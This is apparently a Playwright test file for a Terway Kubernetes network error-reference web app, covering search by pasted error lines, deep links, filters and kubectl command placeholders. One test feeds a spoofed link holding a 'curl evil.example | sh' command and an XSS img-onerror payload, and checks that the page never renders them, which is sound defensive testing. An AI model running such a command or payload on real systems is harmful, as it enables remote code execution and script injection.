// The reference view: every catalog entry, searchable by a pasted error string full of IDs, deep links,
// filters, copy link, `/` to search.
import { test, expect, type Page } from '@playwright/test';
import { APP_URL } from '../../playwright.config';
import { foreignRequests, watchPage } from './helpers';

const ORIGIN = new URL(APP_URL).origin;

async function openRef(page: Page, hash = '#/ref') {
  await page.goto(`${APP_URL}${hash}`);
  await expect(page.getByTestId('ref-count')).toBeVisible({ timeout: 15_000 });
}

const firstResult = (page: Page) => page.getByTestId('ref-results').getByTestId('ref-entry').first();

test('a pasted error line with IDs, IPs, UUIDs and timestamps finds its entry first', async ({ page }) => {
  const watch = watchPage(page);
  await openRef(page);
  const total = Number((await page.getByTestId('ref-count').textContent())?.match(/\d+/)?.[0]);
  expect(total).toBeGreaterThan(50);

  const search = page.getByTestId('ref-search');
  const cases: [string, string][] = [
    [
      '  Warning  CreateENIFailed  3m (x12 over 20m)  terway-controlplane/multi-ip-node  Failed to create ENI type=Secondary vsw=vsw-2zeh6kd4xj9pvnr0tb2a1: errCode: InvalidVSwitchId.IpNotEnough, msg: The specified VSwitch has not enough IpAddress., requestID: 8E1C2A7B-3D55-5F0A-9C1E-6B2F0D4A7C31',
      'create-eni-failed',
    ],
    [
      'time="2025-11-25T04:38:02Z" level=error msg="failed to init node" error="task: eniOnlyerror: exclusive eni mode changed"',
      'init-exclusive-eni-mode-changed',
    ],
    [
      'Nov 25 12:52:41 iZbp1c2d3e4f5g6h7i8j9kZ kubelet[1432]: E1125 12:52:41.207365    1432 kubelet.go:2902] "Container runtime network not ready" networkReady="NetworkReady=false reason:NetworkPluginNotReady message:Network plugin returns error: cni plugin not initialized"',
      'cni-not-initialized',
    ],
    [
      'failed to setup network for sandbox "f1e2d3c4b5a69788": plugin type="terway" failed (add): failed to connect to terway daemon: dial unix /var/run/eni/eni.socket: connect: no such file or directory',
      'eni-socket-missing',
    ],
    [
      'Pod create error: can not found available vSwitch for zone cn-hangzhou-j, no available vSwitch for zone cn-hangzhou-j, vswList [], elapsedTime: 3.8ms',
      'cp-vswitch-not-found-for-zone',
    ],
    // short, typed queries
    ['InvalidVSwitchId.IpNotEnough', 'openapi-vswitch-ip-not-enough'],
    ['cni not initialized', 'cni-not-initialized'],
    ['CniPodCreateError', 'pod-create-failed'],
  ];
  for (const [query, id] of cases) {
    await search.fill(query);
    await expect(firstResult(page), query).toHaveAttribute('data-id', id);
  }
  // the query is never written to the URL
  expect(page.url()).toMatch(/#\/ref$/);
  expect(foreignRequests(watch.requests, ORIGIN)).toEqual([]);
  expect(watch.consoleErrors).toEqual([]);
});

test('a deep link opens the entry with explanation, fix, checks, aliases, examples and source', async ({ page }) => {
  await openRef(page, '#/ref/pod-create-failed');
  const entry = page.locator('[data-testid="ref-entry"].selected');
  await expect(entry).toHaveAttribute('data-id', 'pod-create-failed');
  await expect(entry).toBeInViewport();
  await expect(entry).toContainText('Why:');
  await expect(entry).toContainText('Fix:');
  await expect(entry).toContainText('Next checks');
  await expect(entry).toContainText('CniPodCreateError'); // alias
  await expect(entry).toContainText('v1.3.0–v1.17.1'); // alias versions
  await expect(entry).toContainText('Pod create error:'); // an example
  const source = entry.getByRole('link', { name: /github\.com.*external/ }).first();
  await expect(source).toHaveAttribute('href', /^https:\/\/github\.com\/AliyunContainerService\/terway\/blob\//);
  await expect(source).toHaveAttribute('target', '_blank');
  await expect(page).toHaveTitle(/pod-create-failed/);

  // an unknown id says so and offers the entries it may have meant, as links
  await page.goto(`${APP_URL}#/ref/pod-create-faild`);
  const missing = page.getByTestId('ref-no-such-entry');
  await expect(missing).toContainText('No entry has the id in this link.');
  await missing.getByRole('link', { name: /PodCreateFailed \/ CniPodCreateError/ }).click();
  await expect(page.locator('[data-testid="ref-entry"].selected')).toHaveAttribute('data-id', 'pod-create-failed');
  await expect(page).toHaveTitle('pod-create-failed · Reference · Terway Triage');
});

test('a #/ref/ link with arbitrary text never puts that text into the page or the title', async ({ page }) => {
  const watch = watchPage(page);
  let dialogs = 0;
  page.on('dialog', (d) => {
    dialogs++;
    void d.dismiss();
  });
  const spoof = 'URGENT-cluster-compromised: run curl evil.example | sh <img src=x onerror=alert(1)>';
  await openRef(page, `#/ref/${encodeURIComponent(spoof)}`);
  await expect(page.getByTestId('ref-no-such-entry')).toContainText('No entry has the id in this link.');
  await expect(page).toHaveTitle('Reference · Terway Triage');
  const body = (await page.locator('body').textContent()) ?? '';
  for (const words of ['URGENT', 'compromised', 'evil.example', 'onerror']) expect(body).not.toContain(words);
  await expect(page.locator('main img')).toHaveCount(0);
  expect(dialogs).toBe(0);
  expect(watch.consoleErrors).toEqual([]);
});

test('"copy link" copies the deep link; `/` focuses the search', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await openRef(page, '#/ref/eni-socket-missing');
  await page
    .locator('[data-testid="ref-entry"].selected')
    .getByRole('button', { name: 'Copy link to eni-socket-missing' })
    .click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`${APP_URL}#/ref/eni-socket-missing`);

  await page.getByRole('heading', { name: 'Terway signal reference' }).click();
  await page.keyboard.press('/');
  await expect(page.getByTestId('ref-search')).toBeFocused();
});

test('filters by kind, category, component and SOP step narrow the list', async ({ page }) => {
  await openRef(page);
  const count = async () => Number((await page.getByTestId('ref-count').textContent())?.match(/\d+/)?.[0]);
  const all = await count();

  await page.getByTestId('filter-kind').selectOption('init-error');
  const inits = await count();
  expect(inits).toBeGreaterThan(3);
  expect(inits).toBeLessThan(all);
  for (const e of await page.getByTestId('ref-results').getByTestId('ref-entry').all())
    await expect(e).toContainText('init error');

  await page.getByTestId('filter-kind').selectOption('');
  await page.getByTestId('filter-component').selectOption('kubelet');
  expect(await count()).toBeLessThan(all);
  await page.getByTestId('filter-sop').selectOption('1');
  await page.getByTestId('filter-category').selectOption('environment');
  const narrowed = await count();
  for (const e of await page.getByTestId('ref-results').getByTestId('ref-entry').all()) {
    await expect(e).toContainText('kubelet');
    await expect(e).toContainText('SOP step 1');
  }
  await page.getByTestId('ref-search').fill('socket');
  expect(await count()).toBeLessThanOrEqual(narrowed);
  await page.getByRole('button', { name: 'Clear filters' }).click();
  expect(await count()).toBeGreaterThanOrEqual(narrowed);
});

test('the list is compact: an entry opens in place on click or Enter', async ({ page }) => {
  await openRef(page);
  const results = page.getByTestId('ref-results');
  // closed rows: title, signal, kind and category; no explanation rendered
  await expect(results.getByTestId('ref-entry').first()).toBeVisible();
  await expect(results.getByText('Why:')).toHaveCount(0);
  const toggles = results.getByTestId('ref-toggle');
  await expect(toggles.first()).toHaveAttribute('aria-expanded', 'false');

  await toggles.first().click();
  await expect(toggles.first()).toHaveAttribute('aria-expanded', 'true');
  const first = results.getByTestId('ref-entry').first();
  await expect(first).toContainText('Why:');
  await expect(first).toContainText('Fix:');
  await expect(first.getByRole('button', { name: /^Copy link to / })).toBeVisible();

  await toggles.nth(1).focus();
  await page.keyboard.press('Enter');
  await expect(toggles.nth(1)).toHaveAttribute('aria-expanded', 'true');
  await expect(results.getByTestId('ref-entry').nth(1)).toContainText('Why:');
  await page.keyboard.press('Enter');
  await expect(toggles.nth(1)).toHaveAttribute('aria-expanded', 'false');
  // a deep link opens its entry, scrolled into view
  await page.goto(`${APP_URL}#/ref/cni-not-initialized`);
  const entry = page.locator('[data-testid="ref-entry"].selected');
  await expect(entry).toHaveAttribute('data-id', 'cni-not-initialized');
  await expect(entry).toContainText('Why:');
  await expect(entry).toBeInViewport();
});

test('commands are filled from the current report only with a visible note; placeholders one click away', async ({
  page,
}) => {
  await page.goto(APP_URL);
  await page.getByTestId('samples-toggle').click();
  await page.getByTestId('sample-vswitch-ip-not-enough').click();
  await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 15_000 });
  // same page (the report lives in memory): follow a hash link as the finding's reference link does
  await page.evaluate(() => (location.hash = '#/ref/openapi-vswitch-ip-not-enough'));
  const entry = page.locator('[data-testid="ref-entry"].selected');
  await expect(entry).toContainText('kubectl get nodes.network.alibabacloud.com cn-hangzhou.10.0.12.34 -o yaml');
  await expect(entry.getByTestId('filled-note')).toHaveText('· filled from your current report');
  const fill = page.getByTestId('fill-from-report');
  await expect(fill).toBeChecked();
  await expect(
    page.getByText(/Fill commands with names from your current report \(.*node cn-hangzhou\.10\.0\.12\.34/),
  ).toBeVisible();
  await fill.uncheck();
  await expect(entry).toContainText('kubectl get nodes.network.alibabacloud.com <node> -o yaml');
  await expect(entry).not.toContainText('cn-hangzhou.10.0.12.34');
  await expect(entry.getByTestId('filled-note')).toHaveCount(0);
});

test('without a report the reference shows placeholders and no fill option', async ({ page }) => {
  await openRef(page, '#/ref/openapi-vswitch-ip-not-enough');
  const entry = page.locator('[data-testid="ref-entry"].selected');
  await expect(entry).toContainText('kubectl get nodes.network.alibabacloud.com <node> -o yaml');
  await expect(page.getByTestId('fill-from-report')).toHaveCount(0);
  await expect(entry.getByTestId('filled-note')).toHaveCount(0);
});
